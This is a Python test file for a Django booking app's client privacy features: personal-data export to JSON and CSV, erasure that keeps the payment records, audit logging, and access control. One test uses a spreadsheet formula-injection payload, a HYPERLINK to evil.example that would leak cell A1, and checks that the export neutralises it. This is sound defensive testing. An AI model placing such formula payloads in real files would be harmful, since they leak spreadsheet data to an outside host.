from __future__ import annotations

import csv
import io
import json

from bookings.models import Booking, BookingDiscount, Payment, PaymentStatus
from bookings.services import DiscountLine, booking_create, payment_record
from businesses.models import AuditLog
from clients.models import Client, ClientTag
from clients.privacy import ERASED_NAME


def _client_with_history(business, make_client, service):
    from datetime import timedelta

    from django.utils import timezone

    client = make_client(
        "Erin",
        "Private",
        email="erin@example.com",
        phone="+447911123456",
        notes="Knee injury",
        source_detail="Her sister told her",
        email_consent=True,
        tags=["VIP"],
    )
    booking = booking_create(
        business=business,
        client=client,
        service=service,
        starts_at=timezone.now() + timedelta(days=1),
        notes="Please use the side door",
        heard_about="Instagram",
        discounts=(DiscountLine(kind="manual", label="Welcome", amount=1000),),
    )
    payment_record(business=business, payment=booking.payments.get(), method="cash")
    return client, booking


def test_export_json_holds_every_personal_row_and_is_audited(
    owner_client, owner, business, url, make_client, service, in_scope
):
    client, _booking = _client_with_history(business, make_client, service)
    response = owner_client.get(url("privacy_export_json", client.pk))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(f'attachment; filename="client-{client.pk}-personal-data-')
    data = json.loads(response.content)
    assert data["client"]["email"] == "erin@example.com"
    assert data["client"]["notes"] == "Knee injury"
    assert data["tags"] == ["VIP"]
    assert data["consent"]["email"]["agrees"] is True and data["consent"]["email"]["changed_at"]
    assert data["related"]["bookings.Booking"][0]["notes"] == "Please use the side door"
    assert data["related"]["bookings.Booking"][0]["heard_about"] == "Instagram"
    assert data["related"]["bookings.Payment"][0]["amount"] == 5000
    assert data["related"]["bookings.BookingDiscount"][0]["label"] == "Welcome"
    assert "business" not in data["client"]
    entry = AuditLog.objects.get(business=business, action="client.exported")
    assert entry.actor == owner and entry.subject_id == client.pk and entry.payload == {"format": "json"}


def test_export_csv_lists_each_value_on_its_own_row(owner_client, business, url, make_client, service, in_scope):
    client, booking = _client_with_history(business, make_client, service)
    response = owner_client.get(url("privacy_export_csv", client.pk))
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["section", "record_id", "field", "value"]
    # A leading "+" would make a spreadsheet read the cell as a formula: the apostrophe keeps it text.
    assert ["client", str(client.pk), "phone", "'+447911123456"] in rows
    assert ["client", str(client.pk), "completed_visits", "0"] in rows
    assert ["tags", str(client.pk), "tag", "VIP"] in rows
    assert ["bookings.Booking", str(booking.pk), "notes", "Please use the side door"] in rows
    assert AuditLog.objects.get(business=business, action="client.exported").payload == {"format": "csv"}


def test_export_csv_neutralises_formulas_in_every_cell(owner_client, url, make_client, service, in_scope):
    client = make_client(
        '=HYPERLINK("https://evil.example/?"&A1)', "-2+3", notes="\tcmd", source_detail="@SUM(1)", tags=["+tag"]
    )
    rows = list(csv.reader(io.StringIO(owner_client.get(url("privacy_export_csv", client.pk)).content.decode())))
    values = {(row[0], row[2]): row[3] for row in rows[1:]}
    assert values[("client", "first_name")] == '\'=HYPERLINK("https://evil.example/?"&A1)'
    assert values[("client", "last_name")] == "'-2+3"
    assert values[("client", "notes")] == "'\tcmd"
    assert values[("client", "source_detail")] == "'@SUM(1)"
    assert values[("tags", "tag")] == "'+tag"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_erasure_removes_personal_data_and_keeps_the_accounts(
    owner_client, business, url, make_client, service, in_scope
):
    client, booking = _client_with_history(business, make_client, service)
    referrer = make_client("Rita")
    Client.objects.filter(pk=client.pk).update(referred_by=referrer)
    page = owner_client.get(url("erase", client.pk)).content.decode()
    assert "Kept, without personal details" in page
    response = owner_client.post(url("erase", client.pk))
    assert response.status_code == 302 and response["Location"] == url("detail", client.pk)

    client.refresh_from_db()
    assert client.full_name == ERASED_NAME
    assert (client.email, client.email_canonical, client.phone, client.notes, client.source_detail) == ("",) * 5
    assert client.erased_at is not None and not client.email_consent
    assert not ClientTag.objects.filter(client=client).exists()
    assert client.referred_by_id == referrer.pk
    booking = Booking.objects.get(pk=booking.pk)
    assert (booking.notes, booking.heard_about) == ("", "")
    assert (booking.list_price, booking.total) == (6000, 5000)
    payment = Payment.objects.get(booking=booking)
    assert payment.status == PaymentStatus.PAID and payment.amount == 5000
    assert BookingDiscount.objects.get(booking=booking).amount == 1000
    assert client.lifetime_spend == 5000

    entry = AuditLog.objects.get(business=business, action="client.erased")
    assert entry.subject_id == client.pk
    assert "erin" not in json.dumps(entry.payload).lower()
    assert entry.payload["blanked"] == {"bookings.Booking": 1, "bookings.BookingEvent": 1}

    detail = owner_client.get(url("detail", client.pk)).content.decode()
    assert "erased on their request" in detail and "erin@example.com" not in detail
    response = owner_client.get(url("privacy_export_json", client.pk), follow=True)
    assert "no personal data is left to export" in response.content.decode()
    assert not AuditLog.objects.filter(business=business, action="client.exported").exists()
    response = owner_client.get(url("edit", client.pk), follow=True)
    assert "can no longer be changed" in response.content.decode()
    assert owner_client.post(url("erase", client.pk)).status_code == 302
    assert AuditLog.objects.filter(business=business, action="client.erased").count() == 1


def test_an_erased_email_can_be_used_by_a_new_client(owner_client, business, url, make_client, in_scope):
    client = make_client(email="erin@example.com")
    owner_client.post(url("erase", client.pk))
    assert make_client("Erin", email="erin@example.com").pk != client.pk


def test_staff_cannot_export_or_erase(staff_client, url, make_client, in_scope):
    client = make_client(email="erin@example.com")
    for name in ("privacy_export_json", "privacy_export_csv", "erase"):
        assert staff_client.get(url(name, client.pk)).status_code == 403
        assert staff_client.post(url(name, client.pk)).status_code == 403
    client.refresh_from_db()
    assert client.erased_at is None


def test_outsider_posts_with_other_business_ids_find_nothing(
    outsider_client, business, other_business, make_client, in_scope
):
    from django.urls import reverse

    client, duplicate = make_client("Ann"), make_client("Ann", "Dup")
    for name, data in (
        ("erase", {}),
        ("merge", {"other": duplicate.pk}),
        ("set_referrer", {"referred_by": duplicate.pk}),
    ):
        for slug in (business.slug, other_business.slug):
            response = outsider_client.post(reverse(f"clients:{name}", args=[slug, client.pk]), data)
            assert response.status_code == 404, (name, slug)
    client.refresh_from_db()
    assert client.erased_at is None and client.referred_by_id is None
    assert Client.objects.filter(pk=duplicate.pk).exists()
